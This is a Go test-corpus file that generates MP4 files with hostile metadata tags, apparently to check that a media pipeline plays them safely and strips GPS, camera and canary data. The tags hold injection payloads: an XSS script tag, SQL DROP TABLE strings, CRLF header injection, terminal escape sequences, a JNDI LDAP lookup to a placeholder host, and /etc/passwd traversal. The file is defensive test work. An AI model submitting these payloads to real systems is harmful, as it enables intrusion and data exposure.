package corpus

import "strings"

// metadata are films that say strange things about themselves. They play, and
// what is private comes out nowhere.
func metadata() []File {
	says := func(tags ...string) Recipe {
		args := arg("-movflags", "+use_metadata_tags")
		for _, t := range tags {
			args = append(args, "-metadata", t)
		}
		return ff("mp4", picture("64x48", "24", 1), tone(1), h264(), aac(), args)
	}
	plays := film(1)
	return class("metadata",
		File{Name: "markup", Make: says("title=<script>alert(1)</script>", "comment=<img src=http://{NET}/x>"), Want: plays},
		File{Name: "sql", Make: says("title='; DROP TABLE releases; --", "artist=\" OR 1=1 --"), Want: plays},
		File{Name: "newlines", Make: says("title=a\r\nSet-Cookie: x=1\r\n\r\nb"), Want: plays},
		File{Name: "ansi", Make: says("title=\x1b]0;owned\x07\x1b[2J\x1b[31mred"), Want: plays},
		File{Name: "rtl", Make: says("title=\u202egpj.4pm\u202c \u2066x\u2069"), Want: plays},
		File{Name: "zalgo", Make: says("title=Z" + strings.Repeat("\u0335\u0321\u0489", 700)), Want: plays},
		File{Name: "zwj", Make: says("title=" + strings.Repeat("\u200d\U0001F468\u200d\U0001F469", 200)), Want: plays},
		File{Name: "formats", Make: says("title=%s%n%d{{.Secret}}${jndi:ldap://{NET}/x}"), Want: plays},
		File{Name: "64-kib", Make: says("title="+strings.Repeat("x", 65_000), "comment="+strings.Repeat("canary-comment", 4000)), Want: plays.without("canary-comment")},
		File{Name: "path", Make: says("title=../../../../etc/passwd", "album={SECRET}"), Want: plays},
		File{Name: "gps", Make: says("location=+48.8577+002.2950/", "location-eng=+48.8577+002.2950/", "com.apple.quicktime.location.ISO6709=+48.8577+002.2950/"), Want: plays.without("48.8577")},
		File{Name: "bad-utf-8", Make: says("title=\xff\xfe\xc0\x80\xed\xa0\x80", "artist=\xf8\x88\x80\x80\x80"), Want: plays},
		File{Name: "camera", Make: says("encoder=canary-encoder", "make=canary-camera", "model=canary-camera", "com.apple.quicktime.creationdate=2001-02-03"), Want: plays.without("canary-encoder", "canary-camera", "2001-02-03")},
	)
}
